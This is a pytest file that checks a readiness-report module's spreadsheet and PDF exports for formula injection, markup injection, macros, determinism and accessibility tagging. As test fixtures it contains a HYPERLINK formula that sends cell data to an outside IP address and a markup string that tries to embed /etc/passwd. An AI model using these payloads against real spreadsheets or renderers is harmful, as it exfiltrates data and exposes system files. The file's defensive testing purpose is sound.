"""The spreadsheet and the paper: other programs read them, and nothing in them runs."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from hanoikit import readiness
from hanoikit.errors import EvidenceError

EVIL = '=HYPERLINK("http://203.0.113.9/?"&A1,"look")'


@pytest.fixture(scope="module")
def made() -> readiness.Report:
    given = readiness.elvaria()
    notes = {
        **given.notes,
        "images": EVIL,
        "ships": "+1+1",
        "central": "@SUM(A1)",
        "contact": "-2\x07",
        "data": "#N/A",
    }
    return readiness.report(
        replace(given, notes=notes), budget=400, accepted=["trainers", "fund", "sealed-lab", "drones"]
    )


@pytest.fixture(scope="module")
def sheet(made, tmp_path_factory):
    return readiness.write_xlsx(made, tmp_path_factory.mktemp("out") / "deep" / "readiness.xlsx")


def test_no_cell_of_the_spreadsheet_is_a_formula_whatever_a_person_wrote(sheet):
    book = load_workbook(sheet)
    texts = []
    for page in book:
        for row in page.iter_rows():
            for cell in row:
                assert cell.data_type in {"s", "n"}, cell.coordinate
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value[:1] in "=+-@":
                        assert cell.quotePrefix, cell.value
    assert {EVIL, "+1+1", "@SUM(A1)", "#N/A", "-2\\x07"} <= set(texts)
    with zipfile.ZipFile(sheet) as parts:
        pages = [name for name in parts.namelist() if name.startswith("xl/worksheets/")]
        assert len(pages) == 7
        assert not any(b"<f>" in parts.read(name) for name in pages)
        assert not any("externalLink" in name or "vba" in name for name in parts.namelist())


def test_the_spreadsheet_says_what_the_plan_says_in_numbers(made, sheet):
    page = load_workbook(sheet)["Plan"]
    rows = [row for row in page.iter_rows(min_row=5, values_only=True) if row[0] is not None]
    assert len(rows) == len(made.plan.steps)
    assert sum(row[7] for row in rows if row[9] == "paid") == made.plan.cost
    assert "assumed" in page["A2"].value
    assert [one.title for one in load_workbook(sheet)] == [
        "Summary", "Gaps", "Plan", "Balance", "Help", "People", "Register",
    ]  # fmt: skip


def test_the_same_report_gives_the_same_files(made, sheet, tmp_path):
    assert readiness.write_xlsx(made, tmp_path / "again.xlsx").read_bytes() == sheet.read_bytes()
    first = readiness.write_pdf(made, tmp_path / "one.pdf").read_bytes()
    assert readiness.write_pdf(made, tmp_path / "two.pdf").read_bytes() == first


def test_the_paper_is_tagged_and_says_what_is_assumed_and_what_was_refused(made, tmp_path):
    path = readiness.write_pdf(made, tmp_path / "plan.pdf")
    reader = PdfReader(path)
    root = reader.trailer["/Root"]
    assert root["/MarkInfo"]["/Marked"] and "/StructTreeRoot" in root and root["/Lang"] == "en"
    text = " ".join(" ".join(page.extract_text().split()) for page in reader.pages)
    assert "Readiness of Elvaria" in text
    assert "All costs are assumed" in text
    assert "collide with 5(1), 36(1)" in text
    for step in made.plan.funded:
        assert step.measure.title.split(",")[0] in text
    if shutil.which("pdfinfo"):
        told = subprocess.run(["pdfinfo", path], capture_output=True, text=True, check=True).stdout
        assert "Tagged:          yes" in told


def test_a_name_on_paper_never_becomes_markup(made, tmp_path):
    evil = replace(made, state='#image("/etc/passwd") *bold* $x$ <b>')
    text = PdfReader(readiness.write_pdf(evil, tmp_path / "evil.pdf")).pages[0].extract_text()
    assert "#image" in text and "*bold*" in text


def test_a_place_that_cannot_be_written_is_refused_and_left_as_it_was(made, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    for write in (readiness.write_xlsx, readiness.write_pdf):
        with pytest.raises(EvidenceError):
            write(made, blocker / "out")
    assert blocker.read_text() == "x"
